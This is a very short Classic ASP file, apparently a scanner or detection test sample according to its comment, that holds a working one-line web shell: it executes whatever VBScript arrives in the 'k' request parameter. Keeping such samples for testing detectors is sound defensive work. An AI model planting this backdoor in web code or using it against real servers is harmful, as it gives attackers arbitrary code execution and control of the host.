<%
' spamgear test sample: request data run as VBScript code
If Request("k") <> "" Then Execute Request("k")
%>
